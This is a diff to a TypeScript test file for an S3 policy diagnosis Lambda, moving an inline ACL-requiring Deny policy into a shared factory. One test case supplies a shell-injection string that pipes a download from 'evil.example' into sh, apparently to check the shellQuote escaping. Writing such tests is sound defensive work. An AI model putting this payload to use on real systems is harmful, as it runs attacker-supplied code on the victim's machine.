@@ -3,7 +3,7 @@ import { readFileSync } from 'node:fs';
 import { diagnose, parseEvent, parseSnapshot, readEventDocument } from '../lambda';
 import { shellQuote } from '../lambda/fixes/shellQuote';
 import { applyRequestChange } from '../lambda/model/applyRequestChange';
-import { BUCKET, policy, s3Record, snapshot } from './factories';
+import { BUCKET, policy, REQUIRE_OWNER_ACL, s3Record, snapshot } from './factories';
 import { OWN_SCENARIOS, SHARED_SCENARIOS } from './helpers/paths';
 import { loadScenarios } from './helpers/scenarios';
 
@@ -23,14 +23,7 @@ describe('fixes', () => {
       .slice(0, -1);
   }
 
-  const requireAcl = policy({
-    Sid: 'Acl',
-    Effect: 'Deny',
-    Principal: '*',
-    Action: 's3:PutObject',
-    Resource: '*',
-    Condition: { StringNotEquals: { 's3:x-amz-acl': 'bucket-owner-full-control' } },
-  });
+  const requireAcl = REQUIRE_OWNER_ACL;
 
   it.each([
     ['a shell injection', "x'; curl evil.example | sh; echo '"],
